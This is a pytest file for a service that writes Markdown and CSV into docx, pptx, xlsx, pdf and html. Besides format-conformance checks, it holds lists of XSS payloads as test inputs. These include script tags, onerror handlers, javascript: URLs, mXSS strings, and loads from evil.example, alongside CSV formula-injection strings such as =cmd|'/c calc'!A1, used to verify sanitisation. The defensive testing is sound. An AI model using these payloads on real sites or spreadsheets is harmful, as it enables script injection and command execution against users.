"""Documents as others read them: the XML itself, python-docx, openpyxl, python-pptx, pypdf and an HTML parser."""

import csv
import io
import posixpath
import random
import re
import zipfile
from base64 import b64decode
from html.parser import HTMLParser

import docx
import pptx
import pytest
from defusedxml import ElementTree
from openpyxl import load_workbook
from pypdf import PdfReader

from libs.testing.every import for_every
from services.mcp.contract import ToolError
from services.mcp.tools.served.documents.jobs import WriteJob, Written, WrittenFormat
from services.mcp.tools.served.documents.writing.tables import MAX_CELLS, MAX_COLUMNS, csv_file
from services.mcp.tools.served.documents.writing.writer import write

REPORT = """# Größe & <Maß>

Ein **fetter**, *schräger* und `gerader` Satz mit [Verweis](https://example.org/?a=1&b=2).

1. eins
2. zwei
   - innen

> gesagt

| Ware | Preis |
|------|-------|
| Tee  | 2.50  |
| Kaffee | 3    |

```python
if 1 < 2: print("&")
```

---

## Zweiter Teil

Schluss.
"""


def written(content: str, kind: WrittenFormat) -> Written:
    return write(WriteJob(content=content, title="Titel", format=kind))


def body(content: str, kind: WrittenFormat) -> bytes:
    return b64decode(written(content, kind).content_base64)


def test_docx_has_headings_lists_tables_and_looks() -> None:
    document = docx.Document(io.BytesIO(body(REPORT, "docx")))
    texts = [paragraph.text for paragraph in document.paragraphs]
    assert texts[0] == "Größe & <Maß>"
    assert document.paragraphs[0].style is not None
    assert document.paragraphs[0].style.name == "Heading 1"
    assert {"1. eins", "2. zwei", "• innen", "> gesagt", "Schluss."} <= set(texts)
    bold = [run.text for paragraph in document.paragraphs for run in paragraph.runs if run.bold]
    assert bold == ["fetter"]
    (table,) = document.tables
    assert [[cell.text for cell in row.cells] for row in table.rows] == [
        ["Ware", "Preis"],
        ["Tee", "2.50"],
        ["Kaffee", "3"],
    ]
    assert document.core_properties.title == "Titel"


def test_pptx_has_a_slide_for_each_heading() -> None:
    presentation = pptx.Presentation(io.BytesIO(body(REPORT, "pptx")))
    titles = [slide.shapes.title.text for slide in presentation.slides if slide.shapes.title is not None]
    assert list(dict.fromkeys(titles)) == ["Größe & <Maß>", "Zweiter Teil"]


W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
A = "{http://schemas.openxmlformats.org/drawingml/2006/main}"


def test_docx_is_what_the_standard_says() -> None:
    """By ECMA-376 (part 1, 17.3 and 17.4), read from the XML itself."""
    with zipfile.ZipFile(io.BytesIO(body(REPORT, "docx"))) as package:
        document = ElementTree.fromstring(package.read("word/document.xml"))
    paragraphs = ["".join(text.text or "" for text in each.iter(f"{W}t")) for each in document.iter(f"{W}p")]
    assert paragraphs[0] == "Größe & <Maß>"
    assert {"Tee", "2.50", "Schluss."} <= set(paragraphs)
    first = document.find(f".//{W}pStyle")
    assert first is not None
    assert first.get(f"{W}val") == "Heading1"
    bold = [run for run in document.iter(f"{W}r") if run.find(f"{W}rPr/{W}b") is not None]
    assert ["".join(text.text or "" for text in run.iter(f"{W}t")) for run in bold] == ["fetter", "Ware", "Preis"]
    assert [len(list(row.iter(f"{W}tc"))) for row in document.iter(f"{W}tr")] == [2, 2, 2]


def test_pptx_is_what_the_standard_says() -> None:
    """By ECMA-376 (part 1, 19.3 and 21.1), read from the XML itself."""
    with zipfile.ZipFile(io.BytesIO(body(REPORT, "pptx"))) as package:
        slides = sorted(name for name in package.namelist() if re.fullmatch(r"ppt/slides/slide\d+\.xml", name))
        texts = [[text.text for text in ElementTree.fromstring(package.read(name)).iter(f"{A}t")] for name in slides]
    assert texts[0][0] == "Größe & <Maß>"
    assert texts[-1] == ["Zweiter Teil", "Schluss."]


@pytest.mark.parametrize("kind", ["docx", "pptx", "xlsx"])
def test_every_part_of_a_package_has_a_type_and_every_relationship_a_part(kind: WrittenFormat) -> None:
    """By ECMA-376 (part 2): office programs repair or reject a package that breaks this."""
    content = "a,b\n1,2\n" if kind == "xlsx" else REPORT
    with zipfile.ZipFile(io.BytesIO(body(content, kind))) as package:
        names = set(package.namelist())
        types = ElementTree.fromstring(package.read("[Content_Types].xml"))
        extensions = {str(each.get("Extension")) for each in types if each.tag.endswith("}Default")}
        parts = {str(each.get("PartName")).lstrip("/") for each in types if each.tag.endswith("}Override")}
        untyped = {name for name in names - parts if name.rpartition(".")[2] not in extensions}
        assert untyped == {"[Content_Types].xml"} - ({"[Content_Types].xml"} if "xml" in extensions else set())
        assert parts <= names
        for name in (each for each in names if each.endswith(".rels")):
            folder = posixpath.dirname(posixpath.dirname(name))
            targets = [
                each for each in ElementTree.fromstring(package.read(name)) if each.get("TargetMode") != "External"
            ]
            found = {posixpath.normpath(posixpath.join("/", folder, str(each.get("Target")))) for each in targets}
            assert {target.lstrip("/") for target in found} <= names, name


def test_pptx_goes_on_to_another_slide_when_one_is_full() -> None:
    result = written("# A\n" + "\n\n".join(f"line {n}" for n in range(40)), "pptx")
    assert result.parts == 4
    presentation = pptx.Presentation(io.BytesIO(b64decode(result.content_base64)))
    shown = [p.text for slide in presentation.slides for p in slide.placeholders[1].text_frame.paragraphs]
    assert shown == [f"line {n}" for n in range(40)]


def test_pdf_holds_the_text_its_title_and_a_working_link() -> None:
    reader = PdfReader(io.BytesIO(body(REPORT, "pdf")))
    text = "\n".join(page.extract_text() for page in reader.pages)
    for words in ("Größe & <Maß>", "fetter", ["1.", "eins"][1], "Kaffee", 'if 1 < 2: print("&")', "Schluss."):
        assert words in text
    assert reader.metadata is not None
    assert reader.metadata.title == "Titel"
    links = [note.get_object()["/A"]["/URI"] for page in reader.pages for note in page.get("/Annots", ())]
    assert links == ["https://example.org/?a=1&b=2"]


def test_pdf_pages_are_counted_and_long_tables_break() -> None:
    rows = "\n".join(f"| {n} | {'x' * 40} |" for n in range(200))
    result = written(f"| a | b |\n|---|---|\n{rows}", "pdf")
    reader = PdfReader(io.BytesIO(b64decode(result.content_base64)))
    assert result.parts == len(reader.pages) > 3


def test_pdf_says_how_many_characters_it_could_not_show() -> None:
    assert written("fine", "pdf").replaced == 0
    assert written("漢字", "pdf").replaced == 2


def test_a_cell_longer_than_a_page_is_refused_and_named() -> None:
    with pytest.raises(ToolError, match="longer than a page") as caught:
        written(f"| a |\n|---|\n| {'word ' * 5000} |", "pdf")
    assert caught.value.code == "limit_exceeded"


def test_txt_and_md_keep_every_word() -> None:
    text = body(REPORT, "txt").decode()
    assert "**" not in text
    assert "Ein fetter, schräger und gerader Satz mit Verweis." in text
    assert body(REPORT, "md").decode() == REPORT


@for_every(
    kind=["html", "md", "txt", "csv", "docx", "xlsx", "pptx", "pdf"],
    content=["", " ", "|", "```", "- \n  - \n    1. ", "\x00\x0b\uffff", "[](<>)", "> > > >"],
)
def test_odd_content_is_no_crash(kind: WrittenFormat, content: str) -> None:
    assert written(content, kind).part_kind


# Forbidden content of a page, as an independent parser finds it.
class _Seen(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.links: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs if tag != "meta"}
        self.links |= {value or "" for name, value in attrs if name == "href"}


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "![track](https://evil.example/p.png)",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jAvAsCrIpT&#58;alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "<a href=https://a.example onclick=alert(1)>x</a>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style>@import 'https://evil.example/a.css'</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<object data=https://evil.example/x></object>",
    "<embed src=https://evil.example/x>",
    "<video src=https://evil.example/x autoplay></video>",
    "<form action=https://evil.example><input name=a></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>x</details>",
    "<template><script>alert(1)</script></template>",
    "</body></html><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "```html\n<script>alert(1)</script>\n```",
    "<p id=location name=cookie>x</p>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
]
RUNS_OR_LOADS = {"script", "img", "svg", "math", "iframe", "object", "embed", "link", "base", "form", "input"} | {
    "button", "video", "audio", "source", "template", "noscript", "frame", "applet", "style2"
}  # fmt: skip


@for_every(hostile=HOSTILE)
def test_on_a_page_nothing_runs_and_nothing_is_loaded(hostile: str) -> None:
    page = body(f"before\n\n{hostile}\n\nafter {hostile} end", "html").decode()
    seen = _Seen()
    seen.feed(page)
    assert not seen.tags & RUNS_OR_LOADS
    assert not {name for name in seen.attributes if name.startswith("on")}
    assert not seen.attributes & {"src", "style", "srcset", "action", "formaction", "id", "name", "background", "data"}
    assert all(link.startswith(("http://", "https://", "mailto:")) for link in seen.links)
    assert page.count("<style>") == page.count("http-equiv") == 1
    assert "default-src 'none'" in page


def test_mixtures_of_hostile_pieces_are_harmless_too() -> None:
    chance = random.Random(6)
    for _ in range(300):
        content = "".join(chance.choice([*HOSTILE, "<", ">", "'", '"', "\n", "&lt;", "</p>"]) for _ in range(8))
        seen = _Seen()
        seen.feed(body(content, "html").decode())
        assert not seen.tags & RUNS_OR_LOADS
        assert not {name for name in seen.attributes if name.startswith("on") or name in {"src", "style"}}


def test_the_title_of_a_page_is_text() -> None:
    page = b64decode(write(WriteJob(content="x", title="</title><script>", format="html")).content_base64).decode()
    assert "<title>&lt;/title&gt;&lt;script&gt;</title>" in page


def test_markup_is_text_in_formats_that_have_markup_of_their_own() -> None:
    content = "<font color='red'>x</font> <img src='file:///etc/passwd'/> <b>y</b>"
    text = PdfReader(io.BytesIO(body(content, "pdf"))).pages[0].extract_text()
    assert "".join(text.split()) == "".join(content.split())
    assert docx.Document(io.BytesIO(body(content, "docx"))).paragraphs[0].text == content


FORMULAS = [
    "=1+1",
    "=cmd|'/c calc'!A1",
    "+1+cmd",
    "-2+3+cmd|' /C'",
    "@SUM(1)",
    "\t=1",
    " =1",
    "\uff1d1+1",
    "\ufeff=1",
    "\u200b\u2060 =1",
    '=HYPERLINK("x")',
]


def test_no_cell_of_a_table_is_a_formula() -> None:
    chance = random.Random(7)
    for _ in range(200):
        cells = [chance.choice(FORMULAS) + chance.choice(["", "x", "!1", " 2"]) for _ in range(3)]
        content = io.StringIO()
        csv.writer(content).writerows((["a", "b", "c"], cells))
        _, row = list(csv.reader(io.StringIO(body(content.getvalue(), "csv").decode(), newline="")))
        assert [cell[0] for cell in row] == ["'"] * len(cells)
        assert [cell[1:].replace("\t'", "\t") for cell in row] == cells
        sheet = load_workbook(io.BytesIO(body(content.getvalue(), "xlsx"))).active
        assert sheet is not None
        assert {cell.data_type for cell in sheet[2]} == {"s"}
        assert [cell.value for cell in sheet[2]] == cells


UNSEEN = "\ufeff\u200b\u200c\u200d\u200e\u200f\u2060"
PIECES = ("=1", "+1", "-1", "@a", "\uff1d1", "=cmd|' /C calc'!A0", "tea", '"', ",", " ", *UNSEEN, *";;;||\t\t\r\n")


def seen_as(text: str) -> list[str]:
    """Cells that spreadsheets find in a file, whatever their list separator, with or without quotation."""
    found = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    for delimiter in ";|\t":
        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
            rows = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, quoting=quoting)
            found += [cell for row in rows for cell in row]
    return [cell.lstrip(UNSEEN + " \t\r\n") for cell in found]


def test_no_cell_is_a_formula_whatever_a_spreadsheet_takes_for_its_end() -> None:
    chance = random.Random(9)
    for _ in range(1000):
        row = ["".join(chance.choice(PIECES) for _ in range(6)) for _ in range(2)]
        text = csv_file([row, row]).decode()
        assert not [cell for cell in seen_as(text) if cell.startswith(("=", "+", "@", "-1", "\uff1d"))], (row, text)


@pytest.mark.parametrize("cell", ["tea;=cmd|' /C calc'!A0", "tea\n=1", "tea\t=1", "tea|=1", 'tea;"=1"', "tea;\ufeff=1"])
def test_a_formula_in_the_middle_of_a_cell_is_guarded_by_one_apostrophe(cell: str) -> None:
    (row,) = csv.reader(io.StringIO(body(f'a,"{cell.replace(chr(34), chr(34) * 2)}"', "csv").decode(), newline=""))
    assert row[1].replace("'", "", 1) == cell
    assert row[1][4] == "'"


@pytest.mark.parametrize(
    "cell", ["-5", "+3.5", "-1,25", "12%", "a=b", "2-1", "x@y.example", "0123", "1e5", "a; b", "a\nb=c"]
)
def test_numbers_and_words_stay_as_they_are(cell: str) -> None:
    content = io.StringIO()
    csv.writer(content).writerow([cell, "x"])
    assert next(csv.reader(io.StringIO(body(content.getvalue(), "csv").decode()))) == [cell, "x"]


def test_xlsx_has_numbers_where_nothing_is_lost_and_text_elsewhere() -> None:
    content = "n,v\n1,12.5\n2,007\n3,1234567890123456\n4,-0.25\n5,1e3\n"
    sheet = load_workbook(io.BytesIO(body(content, "xlsx"))).active
    assert sheet is not None
    assert [row[1].value for row in sheet.iter_rows(min_row=2)] == [12.5, "007", "1234567890123456", -0.25, "1e3"]


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_any_usual_delimiter_is_understood(delimiter: str) -> None:
    content = "\n".join(delimiter.join((f"a{n}", f'"b{n}"', f"{n}.5")) for n in range(5))
    rows = list(csv.reader(io.StringIO(body(content, "csv").decode())))
    assert rows == [[f"a{n}", f"b{n}", f"{n}.5"] for n in range(5)]


def test_csv_survives_quotes_commas_and_lines_in_cells() -> None:
    chance = random.Random(8)
    for _ in range(200):
        rows = [["".join(chance.choice('a,"\n ;x') for _ in range(6)) + "e" for _ in range(3)] for _ in range(4)]
        content = io.StringIO()
        csv.writer(content).writerows([["h1", "h2", "h3"], *rows])
        read = list(csv.reader(io.StringIO(body(content.getvalue(), "csv").decode(), newline="")))
        assert read == [["h1", "h2", "h3"], *rows]


def test_tables_over_their_limits_are_refused_with_the_limit() -> None:
    with pytest.raises(ToolError, match=str(MAX_COLUMNS)):
        written(",".join("x" * (MAX_COLUMNS + 1)), "csv")
    with pytest.raises(ToolError, match=f"{MAX_CELLS:,}"):
        written("," * (MAX_COLUMNS - 1) + ("\n" + "," * (MAX_COLUMNS - 1)) * (MAX_CELLS // MAX_COLUMNS), "csv")
